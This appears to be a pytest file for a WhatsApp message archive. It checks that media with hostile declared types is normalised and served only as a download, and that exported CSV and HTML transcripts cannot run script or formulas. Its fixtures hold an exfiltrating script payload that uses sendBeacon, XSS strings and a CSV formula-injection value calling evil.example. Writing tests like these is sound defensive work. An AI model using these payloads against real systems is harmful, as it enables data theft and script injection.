"""Media is data, never markup: a hostile declared type is normalised when archived (the declaration
kept as evidence), stored and served so that no browser renders it, and exported as a file and a
transcript that run nothing."""

from __future__ import annotations

import base64
import csv
import hashlib
import html
import io
import json
import re
import uuid
import zipfile
from urllib.parse import parse_qs, quote, urlparse

import pytest
from aiobotocore.session import get_session

from tests.conftest import LEDGER_KEY
from wa_archive.archive.keys import extension_for
from wa_archive.archive.media_types import is_inline, media_headers, normalize_mime
from wa_archive.discovery import export
from wa_archive.discovery.export import ExportQuery, write_bundle
from wa_archive.integrity import ledger
from wa_archive.integrity.ledger import Signer
from wa_archive.sources.meta.fake_graph import FakeMedia
from wa_archive.sources.meta.samples import dumps, envelope, message, wamid
from wa_archive.storage import S3Store

PHONE = "447700900123"
SCRIPT = b"<html><script>fetch('/api/v1/messages').then(r=>r.text()).then(t=>navigator.sendBeacon('//x',t))</script>"
# Declared type -> the type the archive serves.
HOSTILE = {
    "text/html": "text/html",
    "application/pdf, text/html": "application/octet-stream",
    "image/svg+xml": "image/svg+xml",
    "TEXT/HTML; charset=x": "text/html",
}
SCRIPTABLE_EXTENSIONS = {"html", "htm", "svg", "xml", "js", "xhtml", "mhtml", "shtml"}


# Pure units ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("declared,served", [
    ("image/jpeg", "image/jpeg"), ("IMAGE/JPEG", "image/jpeg"), ("audio/ogg; codecs=opus", "audio/ogg"),
    ("TEXT/HTML; charset=x", "text/html"), ("text/html;charset=\"utf-8\"", "text/html"),
    ("application/pdf, text/html", "application/octet-stream"), ("application/pdf,text/html", "application/octet-stream"),
    ("", "application/octet-stream"), (None, "application/octet-stream"), ("html", "application/octet-stream"),
    ("text/html garbage", "application/octet-stream"), ("text/html; x", "application/octet-stream"),
    ("text/html\r\nX-Injected: 1", "application/octet-stream"), ("image/" + "a" * 300, "application/octet-stream"),
    ("image/svg+xml", "image/svg+xml"),
])
def test_normalize_mime(declared, served):
    assert normalize_mime(declared) == served


@pytest.mark.parametrize("mime,inline", [
    ("image/jpeg", True), ("application/pdf", True), ("video/mp4", True), ("audio/ogg; codecs=opus", True),
    ("image/svg+xml", False), ("text/html", False), ("application/pdf, text/html", False), ("text/xml", False),
    ("application/xhtml+xml", False), (None, False),
])
def test_only_the_allow_list_is_inline(mime, inline):
    assert is_inline(mime) is inline
    disposition = media_headers(mime, "f")["Content-Disposition"]
    assert disposition.startswith("inline;" if inline else "attachment;")


@pytest.mark.parametrize("mime", [*HOSTILE, "text/javascript", "application/xhtml+xml", "text/xml",
                                  "application/xml", "image/svg+xml; charset=utf-8", "message/rfc822",
                                  "application/x-weird+zip", "text/html.evil"])
def test_no_scriptable_or_unknown_type_gets_a_meaningful_extension(mime):
    assert extension_for(mime) == "bin"


@pytest.mark.parametrize("value,cell", [
    ("=HYPERLINK(\"http://x\",\"y\")", "'=HYPERLINK(\"http://x\",\"y\")"), ("+1+1", "'+1+1"), ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("plain = text", "plain = text"),
    ("", ""), (None, None), (5, 5),
])
def test_csv_cells_never_start_a_formula(value, cell):
    assert export.csv_cell(value) == cell


# Archive time and the API, on both backends ---------------------------------------------------------


async def _send_documents(stack, declared: list[str], *, filename: str = "invoice.pdf",
                          text: str | None = None, name: str = "Priya Raman") -> dict[str, str]:
    """One inbound document per declared type (bytes: a script), in one delivery; declared -> message id."""
    ids, messages = {}, []
    for mime in declared:
        media = stack.graph.add(FakeMedia(f"d{uuid.uuid4().hex[:10]}", mime_type=mime, content=SCRIPT))
        ids[mime] = wamid()
        body = {"mime_type": mime, "id": media.media_id, "sha256": media.sha256_b64(), "filename": filename}
        if text is not None:
            body["caption"] = text
        messages.append(message("document", body, mid=ids[mime], ts=1772500000))
    status, _ = await stack.post(dumps(envelope(messages, contacts=[{"profile": {"name": name}, "wa_id": PHONE}])))
    assert status == 200
    for mid in ids.values():
        await stack.wait_for_message(mid)
    return ids


async def _stored_content_type(stack, key: str) -> str:
    if isinstance(stack.store, S3Store):
        async with get_session().create_client("s3", endpoint_url=stack.settings.s3_endpoint_url,
                                               region_name="us-east-1") as s3:
            head = await s3.head_object(Bucket=stack.store.bucket, Key=f"{stack.store.prefix}/{key}")
            return head["ContentType"]
    meta = json.loads((stack.store.root / (key + ".meta.json")).read_text())
    return meta["content_type"]


async def _get(stack, path: str, token: str, headers: dict | None = None, params: dict | None = None):
    async with stack.http.get(f"{stack.url}{path}", headers={"Authorization": f"Bearer {token}", **(headers or {})},
                              params=params, allow_redirects=False) as resp:
        return resp.status, resp.headers, await resp.read()


def _assert_never_rendered(headers, served: str) -> None:
    assert headers["Content-Type"] == served
    assert headers["Content-Disposition"].startswith("attachment;")
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in headers["Content-Security-Policy"] and "default-src 'none'" in headers["Content-Security-Policy"]


async def test_hostile_declared_types_are_normalised_stored_and_served_as_attachments(stack_factory, storage_backend):
    stack = await stack_factory(storage_backend)
    ids = await _send_documents(stack, list(HOSTILE))
    token = await stack.token("auditor")
    for declared, served in HOSTILE.items():
        msg = await stack.wait_for_message(ids[declared])
        [item] = msg["media"]
        assert item["status"] == "archived"
        assert item["mime_type"] == served and item["declared_mime_type"] == declared
        key = item["storage_key"]
        assert key.endswith(".bin") and key.rsplit(".", 1)[-1] not in SCRIPTABLE_EXTENSIONS
        assert await _stored_content_type(stack, key) == served
        assert await stack.read_object(key) == SCRIPT  # the evidence is kept byte for byte

        status, headers, body = await _get(stack, item["download_url"], token)
        assert status == 200 and body == SCRIPT
        _assert_never_rendered(headers, served)
        status, headers, body = await _get(stack, item["download_url"], token, headers={"Range": "bytes=0-5"})
        assert status == 206 and body == SCRIPT[:6]
        _assert_never_rendered(headers, served)
        status, headers, _ = await _get(stack, item["download_url"], token,
                                        headers={"If-None-Match": f'"{item["sha256"]}"'})
        assert status == 304
        _assert_never_rendered(headers, served)
        if storage_backend == "s3":
            # S3 sends neither nosniff nor a CSP: the signed URL forces a download of the normalised type.
            status, headers, _ = await _get(stack, item["download_url"], token, params={"redirect": "presigned"})
            assert status == 302
            query = parse_qs(urlparse(headers["Location"]).query)
            assert query["response-content-disposition"][0].startswith("attachment; filename=")
            assert query["response-content-type"] == [served]
            async with stack.http.get(headers["Location"]) as resp:
                assert resp.status == 200 and await resp.read() == SCRIPT
                assert resp.headers["Content-Disposition"].startswith("attachment;")
                assert resp.headers["Content-Type"] == served


async def test_an_image_is_served_inline_and_shows_its_declaration(stack_factory, storage_backend):
    stack = await stack_factory(storage_backend)
    media = stack.graph.add(FakeMedia(f"i{uuid.uuid4().hex[:10]}", mime_type="image/jpeg", content=b"\xff\xd8\xff jpeg"))
    mid = wamid()
    body = {"mime_type": "IMAGE/JPEG", "id": media.media_id, "sha256": media.sha256_b64()}
    await stack.post(dumps(envelope([message("image", body, mid=mid)])))
    msg = await stack.wait_for_message(mid)
    [item] = msg["media"]
    assert item["mime_type"] == "image/jpeg" and item["declared_mime_type"] == "IMAGE/JPEG"
    assert item["storage_key"].endswith(".jpg")
    token = await stack.token("auditor")
    api = await _get(stack, f"/api/v1/messages/{quote(mid, safe='')}", token)
    assert json.loads(api[2])["media"][0]["declared_mime_type"] == "IMAGE/JPEG"
    status, headers, _ = await _get(stack, item["download_url"], token)
    assert status == 200 and headers["Content-Type"] == "image/jpeg"
    assert headers["Content-Disposition"].startswith("inline;") and headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in headers["Content-Security-Policy"]
    if storage_backend == "s3":  # even an image is a download through the bucket
        status, headers, _ = await _get(stack, item["download_url"], token, params={"redirect": "presigned"})
        query = parse_qs(urlparse(headers["Location"]).query)
        assert query["response-content-disposition"][0].startswith("attachment;")


async def test_rows_written_before_normalisation_are_served_safely_and_still_verify(stack):
    """An old row keeps its declared text/html as mime_type and no declaration: serving normalises again."""
    ids = await _send_documents(stack, ["application/pdf"])
    mid = ids["application/pdf"]
    async with stack.admin_pool.acquire() as conn, conn.transaction():
        # Archived media rows are write-once to every role; only a superuser with triggers off can
        # make a row look as it would have before normalisation.
        await conn.execute("SET LOCAL session_replication_role = replica")
        await conn.execute("UPDATE media SET mime_type = 'TEXT/HTML; charset=x', declared_mime_type = NULL"
                           " WHERE message_id = $1", mid)
    [item] = (await stack.wait_for_message(mid))["media"]
    status, headers, _ = await _get(stack, item["download_url"], await stack.token("auditor"))
    assert status == 200
    _assert_never_rendered(headers, "text/html")
    # The record digest the ledger holds does not depend on the type columns: old and new rows verify alike.
    row = await stack.pool.fetchrow("SELECT * FROM messages WHERE id = $1", mid)
    media = await stack.pool.fetch("SELECT * FROM media WHERE message_id = $1 ORDER BY position", mid)
    leaf = await stack.pool.fetchval("SELECT digest FROM ledger_leaves WHERE kind = 'message' AND record_id = $1"
                                     " ORDER BY seq DESC LIMIT 1", mid)
    assert leaf == ledger.message_digest(row, media)


# Export bundles -----------------------------------------------------------------------------------


async def test_export_transcript_runs_nothing_and_csv_cells_are_not_formulas(stack, tmp_path):
    hostile_name = '"><img src=x onerror=alert(1)>.html'
    ids = await _send_documents(stack, ["text/html", "image/svg+xml"], filename=hostile_name,
                                text="=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", name="@SUM(1+1)")
    image = stack.graph.add(FakeMedia(f"i{uuid.uuid4().hex[:10]}", mime_type="image/jpeg", content=b"\xff\xd8\xff jpeg"))
    ids["image"], ids["text"] = wamid(), wamid()
    await stack.post(dumps(envelope([
        message("image", {"mime_type": "image/jpeg", "id": image.media_id, "sha256": image.sha256_b64()},
                mid=ids["image"], ts=1772500001),
        message("text", {"body": "<script>alert(document.cookie)</script>\n-1+2"}, mid=ids["text"], ts=1772500002),
    ])))
    for mid in ids.values():
        await stack.wait_for_message(mid)
    out = tmp_path / "bundle.zip"
    await write_bundle(stack.pool, stack.store, ExportQuery(phone=PHONE), out, exported_by="test",
                       signer=Signer(base64.b64decode(LEDGER_KEY)))

    with zipfile.ZipFile(out) as zf:
        lines = {m["id"]: m for m in map(json.loads, zf.read("messages.jsonl").decode().splitlines())}
        transcript = zf.read(f"transcripts/{PHONE}.html").decode()
        rows = list(csv.DictReader(io.StringIO(zf.read("messages.csv").decode())))
        media_names = [n for n in zf.namelist() if n.startswith("media/")]

    # Media files are named by the normalised type's safe extension.
    html_doc = lines[ids["text/html"]]["media"][0]
    svg_doc = lines[ids["image/svg+xml"]]["media"][0]
    jpeg = lines[ids["image"]]["media"][0]
    assert html_doc["export_path"].endswith(".bin") and svg_doc["export_path"].endswith(".bin")
    assert jpeg["export_path"].endswith(".jpg")
    assert all(n.rsplit(".", 1)[-1] not in SCRIPTABLE_EXTENSIONS for n in media_names)

    # The transcript: no script anywhere, a CSP forbidding it, values escaped, hostile types only as downloads.
    assert "<script" not in transcript.lower() and "<img src=x" not in transcript
    assert "&lt;script&gt;alert(document.cookie)&lt;/script&gt;" in transcript
    assert "&#34;&gt;&lt;img src=x onerror=alert(1)&gt;.html" in transcript
    [csp] = map(html.unescape, re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">',
                                          transcript))
    assert "default-src 'none'" in csp and "script-src" not in csp and "unsafe-inline" not in csp
    style = re.search(r"<style>(.*?)</style>", transcript, re.S).group(1)  # allowed by its hash, nothing else
    assert f"style-src 'sha256-{base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()}'" in csp
    for doc in (html_doc, svg_doc):
        src = "../" + doc["export_path"]
        assert f'<a href="{src}" download>' in transcript
        assert not re.search(rf'<(img|video|audio|iframe|embed|object)[^>]*{re.escape(src)}', transcript)
    assert f'<img src="../{jpeg["export_path"]}"' in transcript

    # The CSV: no cell starts a formula; the JSON lines keep the exact values.
    by_id = {r["id"]: r for r in rows}
    html_row = by_id[ids["text/html"]]
    assert html_row["contact_name"] == "'@SUM(1+1)"
    assert html_row["text"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")"
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
    assert lines[ids["text/html"]]["contact"]["name"] == "@SUM(1+1)"
    assert lines[ids["text/html"]]["text"].startswith("=HYPERLINK(")
    assert html_doc["declared_mime_type"] == "text/html" and html_doc["filename"] == hostile_name


async def test_an_outbound_links_content_type_is_normalised_and_kept_as_declared(stack_factory, storage_backend):
    import copy

    from tests.test_outbound import PNID, TEMPLATE_V1, status_body, template_send
    from wa_archive.sources.meta.samples import WABA_ID

    stack = await stack_factory(storage_backend)
    stack.graph.set_template(WABA_ID, copy.deepcopy(TEMPLATE_V1))
    name = f"{uuid.uuid4().hex}.png"  # the link looks like an image; the sender's server says HTML
    stack.graph.files[name] = FakeMedia(name, mime_type="Text/HTML; charset=utf-8", content=SCRIPT)
    token = await stack.token("sender")
    async with stack.http.post(f"{stack.url}/graph/{PNID}/messages", headers={"Authorization": f"Bearer {token}"},
                               json=template_send({"link": f"{stack.graph.base_url}/files/{name}"})) as resp:
        assert resp.status == 200
        sent = (await resp.json())["messages"][0]["id"]
    await stack.post(status_body(sent, "sent", 1792493902))
    [item] = (await stack.wait_for_message(sent))["media"]
    assert item["status"] == "archived"
    assert item["mime_type"] == "text/html" and item["declared_mime_type"] == "Text/HTML; charset=utf-8"
    assert item["storage_key"].endswith(".bin") and await _stored_content_type(stack, item["storage_key"]) == "text/html"
    status, headers, _ = await _get(stack, item["download_url"], await stack.token("auditor"))
    assert status == 200
    _assert_never_rendered(headers, "text/html")
